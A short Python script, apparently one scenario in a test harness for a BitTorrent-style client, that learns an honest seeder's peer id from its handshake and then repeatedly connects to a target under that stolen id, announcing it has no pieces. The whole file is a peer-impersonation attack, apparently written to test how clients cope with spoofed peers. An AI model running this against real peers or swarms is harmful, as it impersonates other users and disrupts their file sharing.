"""Asks the honest seeder for its peer id, and connects to the target under that id again and again."""

import socket

from attacker import HAVE_NONE, Attacker, Gone, Link, message

SEEDER = ("198.51.100.2", 6881)

attacker = Attacker()
learnt: list[bytes] = []


def learn() -> bytes:
    with socket.create_connection(SEEDER, timeout=5, source_address=(attacker.own, 0)) as connection:
        link = Link(attacker, connection, b"-TW0001-000000000000")
        connection.sendall(link.hello)
        return link.take(68)[48:]


def behave(link: Link) -> None:
    if not learnt:
        try:
            learnt.append(learn())
        except OSError as error:
            raise Gone from error
    link.hello = link.hello[:48] + learnt[0]
    link.greet()
    link.say(message(HAVE_NONE), "times as the seeder")
    attacker.stay(link)


attacker.hold(attacker.own, b"", behave)
attacker.live()
